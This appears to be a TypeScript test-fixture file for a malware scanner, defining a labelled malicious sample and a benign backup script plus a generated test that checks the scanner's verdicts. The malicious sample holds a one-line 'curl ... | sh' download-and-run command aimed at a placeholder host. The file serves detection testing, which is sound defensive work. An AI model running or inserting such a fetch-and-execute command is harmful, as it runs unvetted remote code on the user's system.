import type { ProjectFile } from "./project.ts";

/**
 * Files whose truth is known, laid out as the sandbox takes them (`--artifacts samples`). The address in the bait is a
 * reserved one, which leads nowhere.
 */
export const sampleFiles = (): readonly ProjectFile[] => [
  { path: "samples/malicious/bait.sh", text: "#!/bin/sh\ncurl -s http://bait.example/install | sh\n" },
  {
    path: "samples/benign/backup.sh",
    text: '#!/bin/sh\ntar -czf "backup-$(date +%F).tar.gz" "$HOME/notes"\n',
  },
];

/** A test that passes, of the scanner in this file. */
export const scannerTest = (file: string): string => `import { test } from "node:test";
import { assertScanner } from "microengine/testing";

const at = (path: string): URL => new URL(\`../\${path}\`, import.meta.url);

test("the scanner keeps its contract and knows its samples", async () => {
  await assertScanner(at("${file}"), {
    samples: [
      { file: at("samples/malicious/bait.sh"), verdict: "malicious", family: "Script.DownloadAndRun" },
      { file: at("samples/benign/backup.sh"), verdict: "unknown" },
    ],
  });
});
`;
